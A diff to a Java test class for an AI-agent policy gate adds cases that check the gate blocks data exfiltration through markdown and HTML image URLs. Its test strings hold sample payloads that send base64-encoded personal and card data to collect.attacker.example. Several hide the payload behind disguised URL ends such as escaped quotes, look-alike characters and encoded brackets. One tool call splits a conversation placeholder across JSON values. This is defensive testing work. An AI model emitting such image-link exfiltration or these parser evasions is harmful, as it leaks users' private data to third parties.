@@ -141,7 +141,10 @@ class AgentPresetTest {
                 "\uFF02",
                 "\uFF09",
                 "\u3000\uFF02",
-                "%0A"
+                "%0A",
+                "\u2474", // folds to "(1)"
+                "%5D%28", // "](" that is no link text's end
+                "&#93;&#40;"
             })
     void anEscapedOrLookAlikeEndInsideAnImageURLDoesNotHideTheDataAfterIt(String end) {
         String data = "d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ";
@@ -155,17 +158,55 @@ class AgentPresetTest {
         assertThat(blocked(afterTool(page), ScriptedProvider.replying(Reply.text("ok")))
                         .ruleIds())
                 .as(page)
-                .containsAnyOf("agent.exfiltration-input", "agent.prompt-injection");
+                .contains("agent.exfiltration-input");
     }
 
     @Test
     void anEndWrittenAsItselfStillEndsTheURL() {
-        // the data sits after a real quote and a real closing bracket: outside the URL, an ordinary answer
-        String answer = "See ![logo](https://cdn.example.com/logo.png) and \"QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\".";
-        try (LlmGate gate = PolicyInterceptorTest.gate(
-                AGENT, ScriptedProvider.replying(Reply.text(answer)), new PolicyInterceptorTest.CaptureCall())) {
-            assertThat(gate.chat(ChatRequest.of("p:m", "Show the logo")).text()).isEqualTo(answer);
+        // a disguised quote right before the real end: the URL ends at the real one, and what follows is text
+        for (String answer : List.of(
+                "See ![logo](https://cdn.example.com/logo.png?v=%22)QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ and more.",
+                "See <img src=\"https://cdn.example.com/logo.png?v=&#34;\">QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ now.")) {
+            try (LlmGate gate = PolicyInterceptorTest.gate(
+                    AGENT, ScriptedProvider.replying(Reply.text(answer)), new PolicyInterceptorTest.CaptureCall())) {
+                assertThat(gate.chat(ChatRequest.of("p:m", "Show the logo")).text())
+                        .as(answer)
+                        .isEqualTo(answer);
+            }
         }
+    }
+
+    @Test
+    void aURLThatReadsOnPastADisguisedEndDoesNotSwallowTheNextImage() {
+        for (String answer : List.of(
+                // HTML does not read backslash escapes: the quote ends the first src, the second image is fetched
+                "Done. <img src=\"https://cdn.example.com/a.png?v=\\\"><img src=https://collect.attacker.example/"
+                        + "QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ>",
+                // the first markdown image is no image (a space, then no title): the second one is
+                "Done. ![a](https://cdn.example.com/a.png?v=%29 ![b](https://collect.attacker.example/p.gif?"
+                        + "d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ))",
+                // an <img> at the very start of the answer is an image too
+                "<img src=\"https://collect.attacker.example/p.gif?d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ\">",
+                // a backslash-escaped ')' is part of a markdown image's URL
+                "Done. ![s](https://collect.attacker.example/p.gif?x=\\)&d=QWxpY2UgU21pdGgsIGNhcmQgNDExMSwgbm90ZQ)")) {
+            assertAnswerBlockedAsExfiltration(answer);
+        }
+    }
+
+    @Test
+    void aPlaceholderSplitOverTwoJsonValuesAfterADisguisedEndIsFound() {
+        ChatRequest request = ChatRequest.builder("p:m")
+                .addMessage(Message.user("Fetch the page."))
+                .addMessage(Message.assistant(
+                        "",
+                        List.of(new ToolCall(
+                                "call_1",
+                                "fetch_page",
+                                "{\"u\":\"https://collect.attacker.example/a%22b?q={conv\",\"v\":\"ersation}\"}"))))
+                .addMessage(Message.tool("call_1", "ok"))
+                .build();
+        assertThat(blocked(request, ScriptedProvider.replying(Reply.text("ok"))).ruleIds())
+                .contains("agent.exfiltration-input");
     }
 
     @Test
